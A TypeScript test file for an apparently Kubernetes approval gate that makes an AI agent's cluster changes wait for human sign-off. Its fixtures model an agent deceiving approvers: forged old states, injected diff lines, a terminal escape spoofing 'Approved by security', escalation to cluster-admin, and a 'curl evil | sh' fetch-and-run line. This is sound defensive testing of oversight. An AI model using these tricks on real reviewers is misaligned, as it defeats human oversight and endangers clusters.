/**
 * Issue 9 (items 1-4, 8): the transition an approval binds, and what the approver sees, on
 * fixture AdmissionRequests shaped like the API server's (pure; the same attacks run through
 * a real API server in test/integration/transition.test.ts).
 */
import { describe, expect, it } from "vitest";
import {
  actionDiff,
  actionIdentity,
  actionSummary,
  fingerprintOf,
  isNoOpUpdate,
  transitionOf,
} from "../../src/approvals/fingerprint.js";
import { approvalRequestName } from "../../src/approvals/request.js";
import { formatShow } from "../../src/plugin/commands.js";
import type { AdmissionRequest } from "../../src/resources/admission.js";
import { requestFor } from "../fixtures/approval-request.js";

const AGENT = "system:serviceaccount:ai-agents:ops-bot";
const fp = (r: AdmissionRequest) => fingerprintOf(actionIdentity(r));

const req = (over: Partial<AdmissionRequest>): AdmissionRequest => ({
  uid: "u",
  kind: { group: "", version: "v1", kind: "ConfigMap" },
  resource: { group: "", version: "v1", resource: "configmaps" },
  namespace: "prod",
  name: "cfg",
  operation: "UPDATE",
  userInfo: { username: AGENT },
  ...over,
});

const cm = (data: Record<string, string>, extra: Record<string, unknown> = {}) => ({
  apiVersion: "v1",
  kind: "ConfigMap",
  metadata: { name: "cfg", namespace: "prod", uid: "uid-1", resourceVersion: "7", ...extra },
  data,
});

describe("an UPDATE binds its transition (item 1)", () => {
  const a = cm({ mode: "safe" });
  const b = cm({ mode: "dangerous", extra: "x" });

  it("the same new object on top of another current state is another action", () => {
    const approved = req({ oldObject: a, object: b });
    const forgedOld = req({ oldObject: cm({ mode: "dangerous" }), object: b });
    const otherState = req({ oldObject: cm({ mode: "safe", other: "1" }), object: b });
    expect(fp(forgedOld)).not.toBe(fp(approved));
    expect(fp(otherState)).not.toBe(fp(approved));
    // The one-line tweak a forged oldObject would show is not what the real change hashes to.
    expect(actionDiff(forgedOld)).toBe('data.extra: (absent) → "x"');
    expect(actionDiff(approved)).toBe('data.extra: (absent) → "x"\ndata.mode: "safe" → "dangerous"');
  });

  it("binds the target's uid: a same-named replacement with identical content is another action", () => {
    const one = req({ oldObject: a, object: b });
    const two = req({
      oldObject: { ...a, metadata: { ...a.metadata, uid: "uid-2" } },
      object: { ...b, metadata: { ...b.metadata, uid: "uid-2" } },
    });
    expect(fp(one)).not.toBe(fp(two));
  });

  it("ignores only volatile metadata and the agent's context annotations", () => {
    const base = fp(req({ oldObject: a, object: b }));
    const volatile = req({
      oldObject: {
        ...a,
        metadata: { ...a.metadata, resourceVersion: "9", managedFields: [{ manager: "x" }] },
      },
      object: {
        ...b,
        metadata: {
          ...b.metadata,
          generation: 4,
          creationTimestamp: "2026-01-01T00:00:00Z",
          annotations: { "countersign.io/reason": "because" },
        },
      },
    });
    expect(fp(volatile)).toBe(base);
    for (const metadata of [
      { annotations: { "kubectl.kubernetes.io/last-applied-configuration": "{}" } },
      { annotations: { "countersign.io/break-glass": "true" } },
      { labels: { tier: "critical" } },
      { finalizers: ["x/y"] },
      { deletionTimestamp: "2026-01-01T00:00:00Z" },
    ]) {
      expect(fp(req({ oldObject: a, object: { ...b, metadata: { ...b.metadata, ...metadata } } }))).not.toBe(
        base,
      );
    }
  });

  it("a DELETE binds the uid and the canonical content of the object being deleted", () => {
    const del = (old: unknown) => req({ operation: "DELETE", object: undefined, oldObject: old });
    expect(fp(del(a))).not.toBe(fp(del(cm({ mode: "other" }))));
    expect(fp(del(a))).not.toBe(fp(del({ ...a, metadata: { ...a.metadata, uid: "uid-2" } })));
    expect(fp(del(a))).toBe(fp(del({ ...a, status: { anything: 1 } })));
    expect(actionDiff(del(a))).toContain('data.mode: "safe"');
  });
});

describe("subresources bind what they write (item 2)", () => {
  const csr = (conditions: unknown[] | undefined) => ({
    apiVersion: "certificates.k8s.io/v1",
    kind: "CertificateSigningRequest",
    metadata: { name: "agent-csr", uid: "csr-uid", resourceVersion: "3" },
    spec: { request: "LS0t", signerName: "example.com/signer", usages: ["client auth"], username: "bot" },
    ...(conditions ? { status: { conditions } } : {}),
  });
  const csrApproval = (type: "Approved" | "Denied") =>
    req({
      kind: { group: "certificates.k8s.io", version: "v1", kind: "CertificateSigningRequest" },
      resource: { group: "certificates.k8s.io", version: "v1", resource: "certificatesigningrequests" },
      subResource: "approval",
      namespace: "",
      name: "agent-csr",
      oldObject: csr(undefined),
      object: csr([{ type, status: "True", reason: "AgentSaysSo", message: "ok" }]),
    });

  it("CSR /approval: approve and deny differ in fingerprint, diff and summary", () => {
    expect(fp(csrApproval("Approved"))).not.toBe(fp(csrApproval("Denied")));
    expect(actionDiff(csrApproval("Approved"))).toContain('status.conditions[0].type: (absent) → "Approved"');
    expect(actionDiff(csrApproval("Denied"))).toContain('status.conditions[0].type: (absent) → "Denied"');
    expect(actionSummary(csrApproval("Approved"))).toContain("sets condition Approved=True");
    expect(actionSummary(csrApproval("Denied"))).toContain("sets condition Denied=True");
  });

  it("the condition timestamps the API server stamps on each write do not change the action", () => {
    const stamped = (time: string) => {
      const r = csrApproval("Approved");
      const o = r.object as { status: { conditions: Record<string, unknown>[] } };
      o.status.conditions[0]!.lastUpdateTime = time;
      o.status.conditions[0]!.lastTransitionTime = time;
      return r;
    };
    expect(fp(stamped("2026-01-01T00:00:00Z"))).toBe(fp(stamped("2026-01-01T00:00:07Z")));
    expect(actionDiff(stamped("2026-01-01T00:00:00Z"))).not.toContain("lastUpdateTime");
  });

  const scale = (from: number, to: number) =>
    req({
      kind: { group: "autoscaling", version: "v1", kind: "Scale" },
      resource: { group: "apps", version: "v1", resource: "deployments" },
      subResource: "scale",
      name: "api",
      oldObject: {
        kind: "Scale",
        metadata: { name: "api", namespace: "prod", uid: "d-uid", resourceVersion: "5" },
        spec: { replicas: from },
        status: { replicas: from, selector: "app=api" },
      },
      object: {
        kind: "Scale",
        metadata: { name: "api", namespace: "prod", uid: "d-uid", resourceVersion: "5" },
        spec: { replicas: to },
        status: { replicas: 1234, selector: "whatever" },
      },
    });

  it("/scale: 3 and 300 differ; the Scale's status (ignored by the API server) is not bound", () => {
    expect(fp(scale(1, 3))).not.toBe(fp(scale(1, 300)));
    expect(actionDiff(scale(1, 300))).toBe("spec.replicas: 1 → 300");
    expect(actionSummary(scale(1, 300))).toContain("replicas 1 → 300");
    expect(isNoOpUpdate(scale(3, 3))).toBe(true);
  });

  it("/status binds the status written; a main-resource write binds status only when it changes it", () => {
    const obj = (phase: string) => ({
      apiVersion: "example.com/v1",
      kind: "Widget",
      metadata: { name: "w", namespace: "prod", uid: "w-uid" },
      spec: { size: 1 },
      status: { phase },
    });
    const status = (phase: string, sub: string) =>
      req({
        kind: { group: "example.com", version: "v1", kind: "Widget" },
        resource: { group: "example.com", version: "v1", resource: "widgets" },
        subResource: sub,
        name: "w",
        oldObject: obj("Pending"),
        object: obj(phase),
      });
    expect(fp(status("Ready", "status"))).not.toBe(fp(status("Failed", "status")));
    expect(actionDiff(status("Ready", "status"))).toBe('status.phase: "Pending" → "Ready"');
    // A custom resource without a status subresource takes status through the main resource.
    expect(fp(status("Ready", ""))).not.toBe(fp(status("Failed", "")));
    expect(isNoOpUpdate(status("Ready", ""))).toBe(false);
    expect(isNoOpUpdate(status("Pending", "status"))).toBe(true);
  });

  it("eviction, token, binding and ephemeral containers: each outcome is its own action, shown", () => {
    const evict = (grace: number) =>
      req({
        operation: "CREATE",
        kind: { group: "policy", version: "v1", kind: "Eviction" },
        resource: { group: "", version: "v1", resource: "pods" },
        subResource: "eviction",
        name: "db-0",
        object: {
          kind: "Eviction",
          metadata: { name: "db-0", namespace: "prod" },
          deleteOptions: { gracePeriodSeconds: grace },
        },
      });
    expect(fp(evict(0))).not.toBe(fp(evict(30)));
    expect(actionDiff(evict(0))).toContain("deleteOptions.gracePeriodSeconds: 0");
    expect(actionSummary(evict(0))).toContain('evicts pod "db-0"');

    const token = (audiences: string[], expirationSeconds: number) =>
      req({
        operation: "CREATE",
        kind: { group: "authentication.k8s.io", version: "v1", kind: "TokenRequest" },
        resource: { group: "", version: "v1", resource: "serviceaccounts" },
        subResource: "token",
        name: "deployer",
        object: {
          kind: "TokenRequest",
          metadata: { name: "deployer", namespace: "prod" },
          spec: { audiences, expirationSeconds },
        },
      });
    expect(fp(token(["api"], 600))).not.toBe(fp(token(["api"], 86400)));
    expect(fp(token(["api"], 600))).not.toBe(fp(token(["vault"], 600)));
    expect(actionSummary(token(["vault"], 600))).toContain(
      'issues a token for audiences "vault", valid 600 s',
    );

    const binding = (node: string) =>
      req({
        operation: "CREATE",
        kind: { group: "", version: "v1", kind: "Binding" },
        resource: { group: "", version: "v1", resource: "pods" },
        subResource: "binding",
        name: "web",
        object: {
          kind: "Binding",
          metadata: { name: "web", namespace: "prod" },
          target: { kind: "Node", name: node },
        },
      });
    expect(fp(binding("n1"))).not.toBe(fp(binding("control-plane")));
    expect(actionSummary(binding("control-plane"))).toContain('binds the pod to Node "control-plane"');

    const pod = (eph: unknown[]) => ({
      kind: "Pod",
      metadata: { name: "web", namespace: "prod", uid: "p-uid" },
      spec: { containers: [{ name: "web", image: "nginx" }], ephemeralContainers: eph },
      status: { phase: "Running" },
    });
    const debug = (image: string) =>
      req({
        kind: { group: "", version: "v1", kind: "Pod" },
        resource: { group: "", version: "v1", resource: "pods" },
        subResource: "ephemeralcontainers",
        name: "web",
        oldObject: pod([]),
        object: pod([{ name: "debug", image }]),
      });
    expect(fp(debug("busybox"))).not.toBe(fp(debug("evil/rootkit")));
    expect(actionDiff(debug("evil/rootkit"))).toContain(
      'spec.ephemeralContainers[0].image: (absent) → "evil/rootkit"',
    );
    expect(actionSummary(debug("evil/rootkit"))).toContain(
      'adds ephemeral container "debug" (image "evil/rootkit")',
    );
  });
});

describe("what the approver sees is what will run (item 3)", () => {
  const binding = (role: string) =>
    req({
      operation: "CREATE",
      kind: { group: "rbac.authorization.k8s.io", version: "v1", kind: "RoleBinding" },
      resource: { group: "rbac.authorization.k8s.io", version: "v1", resource: "rolebindings" },
      name: "view-logs",
      object: {
        apiVersion: "rbac.authorization.k8s.io/v1",
        kind: "RoleBinding",
        metadata: { name: "view-logs", namespace: "prod" },
        roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: role },
        subjects: [{ kind: "ServiceAccount", name: "ops-bot", namespace: "ai-agents" }],
      },
    });

  it("a CREATE shows the whole object, and the summary names a binding's role and subjects", () => {
    const diff = actionDiff(binding("cluster-admin"));
    expect(diff).toContain('roleRef.name: "cluster-admin"');
    expect(diff).toContain('subjects[0].name: "ops-bot"');
    expect(actionSummary(binding("cluster-admin"))).toContain(
      'binds ClusterRole "cluster-admin" to ServiceAccount "ai-agents/ops-bot"',
    );
    expect(fp(binding("cluster-admin"))).not.toBe(fp(binding("view")));
  });

  it("an appended array element is a line of its own, never hidden in a cut value", () => {
    const rb = (subjects: unknown[]) => ({
      kind: "RoleBinding",
      metadata: { name: "x", uid: "1" },
      roleRef: { kind: "ClusterRole", name: "edit" },
      subjects,
    });
    const many = Array.from({ length: 20 }, (_, i) => ({
      kind: "User",
      name: `user-with-a-long-name-${i}@example.com`,
    }));
    const r = req({
      resource: { group: "rbac.authorization.k8s.io", version: "v1", resource: "rolebindings" },
      oldObject: rb(many),
      object: rb([...many, { kind: "Group", name: "system:masters" }]),
    });
    expect(actionDiff(r)).toBe(
      'subjects[20].kind: (absent) → "Group"\nsubjects[20].name: (absent) → "system:masters"',
    );
  });

  it("a change deep in a long string shows where it changed", () => {
    const script = `${"echo ok\n".repeat(100)}`;
    const r = req({ oldObject: cm({ run: script }), object: cm({ run: `${script}curl evil | sh\n` }) });
    expect(actionDiff(r)).toContain("curl evil | sh");
  });

  const secret = (data: Record<string, string>, lastApplied?: string) => ({
    apiVersion: "v1",
    kind: "Secret",
    metadata: {
      name: "db",
      namespace: "prod",
      uid: "s-uid",
      ...(lastApplied
        ? { annotations: { "kubectl.kubernetes.io/last-applied-configuration": lastApplied } }
        : {}),
    },
    type: "Opaque",
    data,
  });
  const secretReq = (over: Partial<AdmissionRequest>) =>
    req({
      kind: { group: "", version: "v1", kind: "Secret" },
      resource: { group: "", version: "v1", resource: "secrets" },
      name: "db",
      ...over,
    });
  const VALUE = "aHVudGVyMg==";
  const VALUE2 = "c3VwZXJzZWNyZXQ=";

  it("a changed Secret value reads as changed, never as its value", () => {
    const r = secretReq({
      oldObject: secret({ password: VALUE, gone: VALUE }, `{"data":{"password":"${VALUE}"}}`),
      object: secret({ password: VALUE2, added: VALUE2 }, `{"data":{"password":"${VALUE2}"}}`),
    });
    const diff = actionDiff(r);
    expect(diff).toBe(
      [
        "data.added: <added>",
        "data.gone: <removed>",
        "data.password: <changed>",
        'metadata.annotations["kubectl.kubernetes.io/last-applied-configuration"]: <changed>',
      ].join("\n"),
    );
    const all = `${diff}${actionSummary(r)}${JSON.stringify(buildSpec(r))}`;
    for (const v of [VALUE, VALUE2, "hunter2", "supersecret"]) expect(all).not.toContain(v);
    expect(isNoOpUpdate(r)).toBe(false);
  });

  it("a created or deleted Secret shows its keys redacted", () => {
    const created = secretReq({
      operation: "CREATE",
      object: secret({ password: VALUE }, `{"x":"${VALUE}"}`),
    });
    expect(actionDiff(created)).toContain("data.password: <redacted>");
    expect(actionDiff(created)).not.toContain(VALUE);
    const deleted = secretReq({ operation: "DELETE", oldObject: secret({ password: VALUE }) });
    expect(actionDiff(deleted)).toContain("data.password: <redacted>");
    expect(actionDiff(deleted)).not.toContain(VALUE);
  });

  it("agent-chosen keys cannot forge diff lines", () => {
    const r = req({
      kind: { group: "example.com", version: "v1", kind: "Widget" },
      resource: { group: "example.com", version: "v1", resource: "widgets" },
      oldObject: { metadata: { name: "w", uid: "1" }, spec: {} },
      object: { metadata: { name: "w", uid: "1" }, spec: { 'x\nroleRef.name: "view"': "cluster-admin" } },
    });
    expect(actionDiff(r).split("\n")).toHaveLength(1);
  });
});

const buildSpec = (r: AdmissionRequest) => requestFor(r, { approverGroup: "g" });

describe("generateName (item 4)", () => {
  const create = (name: string, generateName = "job-") =>
    req({
      operation: "CREATE",
      kind: { group: "", version: "v1", kind: "Pod" },
      resource: { group: "", version: "v1", resource: "pods" },
      name,
      object: {
        kind: "Pod",
        metadata: { name, generateName, namespace: "prod" },
        spec: { containers: [{ name: "c", image: "busybox" }] },
      },
    });

  it("retries with new generated names are one action, named after the generateName", () => {
    expect(fp(create("job-x7k2q"))).toBe(fp(create("job-bbz45")));
    const action = actionIdentity(create("job-x7k2q"));
    expect(action).toMatchObject({ name: "", generateName: "job-" });
    expect(approvalRequestName(action, fingerprintOf(action), 0)).toMatch(/^create-pods-job-[0-9a-f]{12}$/);
    expect(actionSummary(create("job-x7k2q"))).toContain('pods named "job-*" (name generated by the server)');
    expect(actionDiff(create("job-x7k2q"))).not.toContain("job-x7k2q");
  });

  it("a name the client chose is still bound", () => {
    expect(fp(create("job-chosen-name"))).not.toBe(fp(create("job-x7k2q")));
    expect(fp(create("other"))).not.toBe(fp(create("job-x7k2q")));
    expect(fp(create("job-x7k2q", "job-"))).not.toBe(fp(create("job-x7k2q", "jo")));
  });
});

describe("no-op updates (item 8)", () => {
  it("identical canonical old and new is a no-op; anything bound that changes is not", () => {
    const a = cm({ k: "v" });
    expect(
      isNoOpUpdate(
        req({ oldObject: a, object: { ...a, metadata: { ...a.metadata, resourceVersion: "8" } } }),
      ),
    ).toBe(true);
    expect(isNoOpUpdate(req({ oldObject: a, object: cm({ k: "w" }) }))).toBe(false);
    expect(
      isNoOpUpdate(
        req({
          oldObject: a,
          object: cm(
            { k: "v" },
            { annotations: { "kubectl.kubernetes.io/last-applied-configuration": "{}" } },
          ),
        }),
      ),
    ).toBe(false);
    expect(
      isNoOpUpdate(req({ oldObject: a, object: cm({ k: "v" }, { ownerReferences: [{ uid: "x" }] }) })),
    ).toBe(false);
    expect(isNoOpUpdate(req({ operation: "CREATE", object: a }))).toBe(false);
    expect(transitionOf(req({ oldObject: a, object: a })).uid).toBe("uid-1");
  });
});

describe("kubectl approvals show", () => {
  it("prints the whole diff, and agent text cannot drive the terminal", () => {
    const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`k${i}`, "v"]));
    const r = req({
      operation: "CREATE",
      object: {
        ...cm(many),
        metadata: {
          name: "cfg",
          namespace: "prod",
          annotations: { "countersign.io/reason": "ok\u001b[2K\rApproved by security" },
        },
      },
    });
    const out = formatShow(buildSpec(r), new Date("2026-01-01T00:00:00Z"));
    expect(out).toContain("Object (as it will be created):");
    for (let i = 0; i < 60; i++) expect(out).toContain(`data.k${i}: "v"`);
    expect(out).not.toContain("\u001b");
    expect(out).toContain("\\u001b[2K\\u000dApproved by security");
  });
});

describe("DELETE options", () => {
  const del = (options?: Record<string, unknown>) =>
    req({
      operation: "DELETE",
      kind: { group: "apps", version: "v1", kind: "Deployment" },
      resource: { group: "apps", version: "v1", resource: "deployments" },
      name: "api",
      oldObject: { kind: "Deployment", metadata: { name: "api", uid: "d-1" }, spec: { replicas: 3 } },
      ...(options ? { options } : {}),
    });

  it("an approval to delete with cascade does not cover orphaning, or a forced grace period", () => {
    const plain = fp(del({ kind: "DeleteOptions", apiVersion: "meta.k8s.io/v1" }));
    expect(fp(del())).toBe(plain);
    expect(fp(del({ propagationPolicy: "Orphan" }))).not.toBe(plain);
    expect(fp(del({ propagationPolicy: "Orphan" }))).not.toBe(fp(del({ propagationPolicy: "Foreground" })));
    expect(fp(del({ gracePeriodSeconds: 0 }))).not.toBe(plain);
    expect(fp(del({ dryRun: ["All"] }))).toBe(plain);
    expect(actionDiff(del({ propagationPolicy: "Orphan" }))).toMatch(
      /^\(delete option\) propagationPolicy: "Orphan"\n/,
    );
    expect(actionSummary(del({ propagationPolicy: "Orphan" }))).toContain('propagationPolicy "Orphan"');
  });
});
